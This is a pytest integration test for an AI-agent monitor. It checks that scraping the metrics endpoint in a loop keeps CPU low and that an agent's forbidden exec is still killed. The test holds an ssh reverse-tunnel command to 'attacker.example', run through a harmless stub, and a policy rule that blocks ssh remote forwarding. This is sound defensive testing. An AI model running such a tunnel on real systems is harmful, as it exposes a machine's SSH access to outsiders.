"""An agent scraping /metrics in a loop (issue 10, item 13), against the real monitor
started from the command line: over a few seconds of eight threads scraping back to back,
as an unprivileged agent, the monitor's CPU stays bounded and an agent's forbidden exec is
still killed from userspace.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import AS_AGENT, agent_exec, free_port, require_root, wait_exit

from tests.support.scrape import SCRAPER

CLI = [sys.executable, "-m", "monitor.cli.main"]
CLK_TCK = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


class CliMonitor:
    """`agentwatch run` as an operator starts it, with its own socket and metrics port."""

    def __init__(self, tmp: Path) -> None:
        self.sock = str(tmp / "ctl.sock")
        self.url = f"http://127.0.0.1:{free_port()}/metrics"
        config = tmp / "config.yaml"
        config.write_text(f"monitor: {{control_socket: {self.sock}}}\n"
                          f"metrics: {{listen: '{self.url.split('/')[2]}'}}\n")
        policy = tmp / "policy.yaml"
        policy.write_text(textwrap.dedent("""\
            mode: enforce
            rules:
              - name: no-ssh-remote-forward
                event: exec
                action: kill
                match: {ssh: [remote_forward]}
            """))
        self.proc = subprocess.Popen([*CLI, "run", "--config", str(config), "--policy",
                                      str(policy)], stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None
        first = json.loads(self.proc.stdout.readline())
        assert first["msg"] == "monitor started", first
        self.lines: list[dict[str, object]] = []
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        deadline = time.monotonic() + 20
        while True:
            try:
                with urllib.request.urlopen(self.url, timeout=5) as r:  # noqa: S310 loopback
                    r.read()
                break
            except OSError:
                assert time.monotonic() < deadline, "metrics never served"
                time.sleep(0.2)

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            self.lines.append(json.loads(line))

    def stop(self) -> str:
        self.proc.send_signal(signal.SIGTERM)
        try:
            _, err = self.proc.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            _, err = self.proc.communicate()
        self._reader.join(timeout=5)
        return err


@pytest.fixture
def monitor(tmp_path: Path) -> Iterator[CliMonitor]:
    require_root()
    m = CliMonitor(tmp_path)
    try:
        yield m
    finally:
        err = m.stop()
        assert "Traceback" not in err, err


@pytest.fixture
def public_dir() -> Iterator[Path]:
    """A directory the unprivileged agent can reach (pytest's tmp_path is root-only)."""
    d = Path(tempfile.mkdtemp(prefix="aw-scrape-", dir="/tmp"))
    os.chmod(d, 0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.mark.timeout(120)
def test_an_agent_scraping_metrics_in_a_loop_costs_little_cpu_and_kills_still_happen(
        monitor: CliMonitor, public_dir: Path) -> None:
    ssh = public_dir / "ssh"
    ssh.write_text("#!/bin/sh\nexec sleep 5\n")
    ssh.chmod(0o755)
    seconds = 5.0
    scraper = agent_exec([*AS_AGENT, "/usr/bin/python3", "-c", SCRAPER, monitor.url, "8",
                          str(seconds)], agent="scraper", socket=monitor.sock,
                         stdout=subprocess.PIPE)
    try:
        assert scraper.stdout is not None
        assert scraper.stdout.readline().strip() == b"scraping"
        cpu0, t0 = cpu_seconds(monitor.proc.pid), time.monotonic()
        time.sleep(1.5)  # the scrape loop is in full swing
        victim = agent_exec([*AS_AGENT, str(ssh), "-NR", "2222:localhost:22",
                             "attacker.example"], agent="victim", socket=monitor.sock)
        assert wait_exit(victim, 10) == -signal.SIGKILL  # killed, not ended by its sleep
        out, _ = scraper.communicate(timeout=60)
        cpu = (cpu_seconds(monitor.proc.pid) - cpu0) / (time.monotonic() - t0)
    finally:
        if scraper.poll() is None:
            scraper.kill()
            scraper.wait()
    served, failed = (int(x) for x in out.split())
    assert served >= seconds, f"the agent's scrapes were not served ({served}, {failed})"
    # Before the scrape was cached and rate-limited this was 80-100 % of a core here.
    assert cpu < 0.25, f"the monitor spent {cpu:.0%} of a core while scraped in a loop " \
                       f"({served} scrapes served, {failed} failed)"
    kills = [ln for ln in monitor.lines if ln.get("msg") == "verdict"
             and ln.get("rule") == "no-ssh-remote-forward"]
    assert kills and kills[0]["outcome"] == "killed"
